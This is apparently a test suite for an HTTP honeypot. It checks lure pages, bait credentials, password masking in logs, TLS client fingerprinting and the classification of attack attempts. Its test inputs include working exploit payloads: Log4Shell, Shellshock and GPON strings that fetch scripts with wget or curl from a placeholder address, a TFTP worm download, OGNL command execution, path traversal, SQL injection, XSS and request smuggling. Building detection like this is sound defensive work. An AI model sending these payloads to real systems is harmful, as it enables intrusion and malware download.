// Requests stand on one line each: they are read like a table.
import { connect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Served, serveDecoy } from '../host.test-suite.ts';
import { http } from './decoy.ts';
import { lures } from './lures/index.ts';
import { ask } from './probe.test-suite.ts';
import { createSite } from './site.ts';

let served: Served;
beforeAll(async () => {
  served = await serveDecoy(http, { tls: true, software: 'nginx' });
});
afterAll(() => served.stop());

/** Sends one request and gives what was told about it, and the answer. */
async function send(raw: string): Promise<{ told: Served['records']; text: string }> {
  const from = served.records.length;
  const { text } = await ask(served.port, raw, 3000);
  return { told: served.records.slice(from), text };
}

const get = (target: string, more = ''): string =>
  `GET ${target} HTTP/1.1\r\nHost: x\r\n${more}Connection: close\r\n\r\n`;
const post = (target: string, body: string, type = 'application/x-www-form-urlencoded'): string =>
  `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;

test("N-021: POST /admin with ' or 1=1 is turned away and told as sqli_attempt", async () => {
  const { told, text } = await send(post('/admin', "username=' or 1=1&password=x"));
  expect(text).toMatch(/^HTTP\/1\.1 403 /);
  expect(told.map(({ event_type }) => event_type)).toEqual(['decoy.request', 'decoy.login']);
  expect(told[0]?.fields).toMatchObject({
    attack: 'sqli_attempt',
    lure: 'admin',
    status: 403,
    body: "username=' or 1=1&password=***",
  });
  expect(told[1]).toMatchObject({ user: "' or 1=1", outcome: 'failure', fields: { password: 'x', method: 'form' } });
});

describe('lures', () => {
  test.each([
    ['/', 'front', 200],
    ['/robots.txt', 'robots', 200],
    ['/.env', 'environment-file', 200],
    ['/app/.env.production', 'environment-file', 200],
    ['/wp-config.php.bak', 'environment-file', 200],
    ['/.aws/credentials', 'environment-file', 200],
    ['/.git/config', 'git-folder', 200],
    ['/.git/HEAD', 'git-folder', 200],
    ['/.git/', 'git-folder', 403],
    ['/wp-login.php', 'wordpress', 200],
    ['/blog/wp-admin/', 'wordpress', 302],
    ['/wp-json/wp/v2/users', 'wordpress', 200],
    ['/xmlrpc.php', 'wordpress', 405],
    ['/phpmyadmin/', 'phpmyadmin', 200],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'php-holes', 200],
    ['/GponForm/diag_Form?images/', 'router-exploits', 200],
    ['/setup.cgi?next_file=netgear.cfg', 'router-exploits', 200],
    ['/cgi-bin/luci/;stok=/locale', 'router', 401],
    ['/cgi-bin/status.cgi', 'cgi-scripts', 200],
    ['/jenkins/login', 'jenkins', 200],
    ['/manager/html', 'tomcat', 401],
    ['/actuator/env', 'actuator', 200],
    ['/actuator/heapdump', 'actuator', 403],
    ['/struts2-showcase/index.action', 'java-holes', 200],
    ['/remote/login', 'gateways', 200],
    ['/backup.sql', 'backup-files', 200],
    ['/backup.zip', 'backup-files', 404],
    ['/shell.php', 'web-shells', 200],
    ['/admin', 'admin', 200],
    ['/nothing-here', null, 404],
  ])('%s is answered by %s with %i', async (target, lure, status) => {
    const { told, text } = await send(get(target));
    // What stands at the top depends on the persona.
    if (lure === 'front') expect(text).toMatch(/^HTTP\/1\.1 (?:200|401) /);
    else expect(text).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
    expect(told[0]?.fields).toMatchObject({ lure });
    expect(told).toHaveLength(1);
  });

  test('no pattern of a path takes long, whatever is asked for', () => {
    const hostile = [
      '/'.repeat(8000),
      `/${'a/'.repeat(4000)}`,
      `/${'a.'.repeat(4000)}`,
      `/cgi-bin/${'%'.repeat(8000)}`,
      `/${'index.action'.repeat(600)}x`,
    ];
    const from = performance.now();
    for (const path of hostile) for (const { paths } of lures) paths.test(path);
    expect(performance.now() - from).toBeLessThan(2000);
  });
});

test('what lies in the files is bait of this installation', async () => {
  const { bait } = createSite('5eed'.repeat(16), 0);
  const pages = await Promise.all(
    ['/.env', '/wp-config.php.bak', '/.git/config', '/backup.sql'].map((path) => ask(served.port, get(path), 3000)),
  );
  for (const [index, { text }] of pages.entries()) {
    expect(text).toContain(bait.accounts[index]?.user);
    expect(text).toContain(bait.accounts[index]?.password);
  }
});

test.each([
  [
    'Log4Shell in a header',
    get('/', `X-Api-Version: $\{jndi:ldap://198.51.100.9:1389/a}\r\n`),
    'log4shell_attempt',
    ['ldap://198.51.100.9:1389/a'],
  ],
  ['Log4Shell, hidden', get('/?x=$%7B$%7Blower:j%7Dndi:rmi://198.51.100.9/x%7D'), 'log4shell_attempt', []],
  [
    'Shellshock',
    get('/cgi-bin/status.cgi', 'User-Agent: () { :; }; /bin/bash -c "wget http://198.51.100.9/x.sh"\r\n'),
    'shellshock_attempt',
    ['http://198.51.100.9/x.sh'],
  ],
  [
    'PHPUnit',
    post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php system("curl http://198.51.100.9/y");'),
    'php_injection_attempt',
    ['http://198.51.100.9/y'],
  ],
  [
    'GPON',
    post(
      '/GponForm/diag_Form?images/',
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.9/g+-O+->/tmp/g;sh+/tmp/g&ipv=0',
    ),
    'command_injection_attempt',
    ['http://198.51.100.9/g'],
  ],
  [
    'a worm by TFTP',
    get('/shell?cd+/tmp;tftp+-g+-r+arm7+198.51.100.9;chmod+777+arm7'),
    'command_injection_attempt',
    ['tftp://198.51.100.9/arm7'],
  ],
  [
    'Confluence',
    get(
      '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
    ),
    'ognl_injection_attempt',
    [],
  ],
  ['traversal', get('/cgi-bin/x?file=../../../../etc/passwd'), 'path_traversal_attempt', []],
  [
    'ThinkPHP',
    get('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array'),
    'php_injection_attempt',
    [],
  ],
  ['SQL in a query', get("/item?id=1'+UNION+SELECT+1,2--+"), 'sqli_attempt', []],
  ['script in a query', get('/q?s=%3Cscript%3Ealert(1)%3C/script%3E'), 'xss_attempt', []],
  [
    'PHP-CGI',
    post('/php-cgi/php-cgi.exe?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', '<?php echo 1;'),
    'php_injection_attempt',
    [],
  ],
  ['an ordinary page', get('/about-us?lang=en&ref=a+b', 'User-Agent: curl/7.88.1\r\nAccept: */*\r\n'), null, []],
])('%s', async (_, raw, attack, urls) => {
  const { told } = await send(raw);
  expect(told[0]?.fields).toMatchObject({ attack, urls });
  expect(told.filter(({ event_type }) => event_type === 'decoy.download').map(({ fields }) => fields?.url)).toEqual(
    urls,
  );
});

test('headers keep their order and case, without the password', async () => {
  const secret = Buffer.from('tomcat:s3cret').toString('base64');
  const { told } = await send(
    `GET /manager/html HTTP/1.1\r\nhOST: x\r\nAccept: */*\r\nAuthorization: Basic ${secret}\r\nUSER-agent: probe\r\nConnection: close\r\n\r\n`,
  );
  expect(told[0]?.fields?.headers).toEqual([
    ['hOST', 'x'],
    ['Accept', '*/*'],
    ['Authorization', 'Basic ***'],
    ['USER-agent', 'probe'],
    ['Connection', 'close'],
  ]);
  expect(told[1]).toMatchObject({
    event_type: 'decoy.login',
    user: 'tomcat',
    fields: { password: 's3cret', method: 'basic' },
  });
  expect(JSON.stringify(told[0])).not.toContain('s3cret');
});

test('a log-in as JSON is told, and its password stays out of the body', async () => {
  const { told } = await send(post('/login', '{"username":"admin","password":"hun\\"ter2"}', 'application/json'));
  expect(told[0]?.fields?.body).toBe('{"username":"admin","password":"***"}');
  expect(told[1]).toMatchObject({ user: 'admin', fields: { password: 'hun"ter2', method: 'json' } });
});

test.each([
  [
    'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG',
    'content-length-and-transfer-encoding',
  ],
  ['POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab', 'two-content-lengths'],
  ['POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n', 'odd-transfer-encoding'],
  ['POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n', 'space-before-colon'],
])('smuggling: %j', async (raw, oddity) => {
  const { told } = await send(raw);
  expect(told[0]?.fields).toMatchObject({ attack: 'request_smuggling' });
  expect(told[0]?.fields?.oddities).toContain(oddity);
});

test('of a body 64 KiB are kept and the rest is counted', async () => {
  const { told } = await send(post('/upload', 'a'.repeat(200_000), 'application/octet-stream'));
  expect(told[0]?.fields?.body_bytes).toBe(200_000);
  expect(told[0]?.fields?.body).toHaveLength(16 * 1024);
});

test('files of a form and of PUT are taken', async () => {
  const body = '--B\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php phpinfo();\r\n--B--\r\n';
  await send(post('/upload.php', body, 'multipart/form-data; boundary=B'));
  await send('PUT /x.jsp HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nConnection: close\r\n\r\n<% %');
  expect(served.uploads.map(({ name, via, content }) => [name, via, content.toString()])).toEqual([
    ['a.php', 'http', '<?php phpinfo();'],
    ['/x.jsp', 'http', '<% %'],
  ]);
});

test('chunks and what follows them on the same connection are read', async () => {
  const from = served.records.length;
  const chunked =
    'POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n9;x=y\r\nusername=\r\nf\r\nroot&password=a\r\n0\r\nTrailer: 1\r\n\r\n';
  await ask(served.port, chunked + get('/second'), 3000);
  expect(
    served.records
      .slice(from)
      .map(({ event_type, fields }) => [event_type, fields?.path, fields?.body ?? fields?.password]),
  ).toEqual([
    ['decoy.request', '/login', 'username=root&password=***'],
    ['decoy.login', '/login', 'a'],
    ['decoy.request', '/second', undefined],
  ]);
});

test('TLS is answered on the same port, and the client is told by its hello', async () => {
  const from = served.records.length;
  const answer = await new Promise<string>((resolve, reject) => {
    const socket = connect(
      { port: served.port, host: '127.0.0.1', servername: 'portal.example.com', rejectUnauthorized: false },
      () => socket.write(get('/.env')),
    );
    let text = '';
    socket.on('data', (bytes) => {
      text += bytes.toString();
    });
    socket.on('end', () => resolve(text)).on('error', reject);
  });
  expect(answer).toContain('DB_PASSWORD');
  const [client, request] = served.records.slice(from);
  expect(client).toMatchObject({ event_type: 'decoy.client', fields: { server_name: 'portal.example.com' } });
  expect(client?.fields?.ja3).toMatch(/^[0-9a-f]{32}$/);
  expect(client?.fields?.ja4).toMatch(/^t13d\d{4}00_[0-9a-f]{12}_[0-9a-f]{12}$/);
  expect(request?.fields).toMatchObject({ tls: true, lure: 'environment-file' });
});

test('two installations share no secret, name or date in their files', async () => {
  const other = await serveDecoy(http, { software: 'nginx' }, 'feed'.repeat(16));
  try {
    for (const path of ['/.env', '/.git/config', '/backup.sql', '/wp-config.php.bak', '/robots.txt']) {
      const [one, two] = await Promise.all(
        [served, other].map(async ({ port }) => (await ask(port, get(path), 3000)).text),
      );
      const words = new Set(one?.match(/[\w+/]{12,}/g) ?? []);
      const shared = (two?.match(/[\w+/]{12,}/g) ?? []).filter((word) => words.has(word));
      // What every such file has: names of keys and of the format.
      expect(
        shared.filter((word) => /\d/.test(word) && !/^(?:utf8|apr1)/.test(word)),
        path,
      ).toEqual([]);
    }
  } finally {
    await other.stop();
  }
});
